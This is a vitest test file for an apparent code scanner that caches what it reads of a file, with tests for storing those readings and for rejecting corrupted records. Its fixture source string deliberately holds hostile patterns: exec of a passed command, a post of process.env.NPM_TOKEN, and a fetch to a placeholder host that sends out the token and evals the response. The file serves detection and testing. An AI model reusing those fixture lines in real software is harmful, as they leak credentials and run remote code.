import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { createCodeReader, type FileReading, unwatched } from '../../src/code/reader.ts'
import { openReadings } from '../../src/scan/extract-readings.ts'

let dir = ''
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'cordon-readings-'))
})
afterEach(() => rmSync(dir, { recursive: true }))

/** It has something in every list. */
const source = `
import { post } from './send.js'
export * from './more.js'
const { exec } = require('node:child_process')
export const run = (command, to) => { exec(command); post(to, process.env.NPM_TOKEN); return Buffer.from(to, 'base64') }
export const pass = (x) => post(x)
export const twice = (x) => post(post(x))
fetch('https://example.test/' + process.env.NPM_TOKEN).then((r) => r.text()).then(eval)
`
const reading: FileReading = createCodeReader(unwatched)(
  { path: 'a.mjs', bytes: Buffer.from(source), sha256: 'ab', language: 'javascript', runs: true },
  'wholly',
)
const written = () => {
  const [file] = readdirSync(dir, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())
  if (file === undefined) throw new Error('nothing was written')
  return join(file.parentPath, file.name)
}

test('what was read of a file is found again as it was, and of no other', () => {
  const { capabilities, exports, calls, flows } = reading.code
  for (const list of [capabilities, exports, calls, flows, reading.inputs.loads]) expect(list).not.toEqual([])
  openReadings(dir).put('a', reading)
  expect(openReadings(dir).get('a')).toEqual(reading)
  expect(openReadings(dir).get('b')).toBeUndefined()
})

test.each([
  ['nothing', () => ''],
  ['half a record', (text: string) => text.slice(0, text.length / 2)],
  ['another value', () => 'null'],
  ['a record of another file', (text: string) => text.replace('"key":"a"', '"key":"b"')],
  ['a record without a list', (text: string) => text.replace('"exports":', '"exported":')],
  ['a record with a wrong type deep inside', (text: string) => text.replace('"argument":0', '"argument":"0"')],
])('%s is a miss', (_, spoil) => {
  const readings = openReadings(dir)
  readings.put('a', reading)
  const text = readFileSync(written(), 'utf8')
  expect(spoil(text)).not.toBe(text)
  writeFileSync(written(), spoil(text))
  expect(readings.get('a')).toBeUndefined()
})

test('without a folder nothing is kept, and where it cannot be written nothing is either', () => {
  const none = openReadings('')
  none.put('a', reading)
  expect(none.get('a')).toBeUndefined()
  const file = join(dir, 'file')
  writeFileSync(file, '')
  const blocked = openReadings(file)
  blocked.put('a', reading)
  expect(blocked.get('a')).toBeUndefined()
})
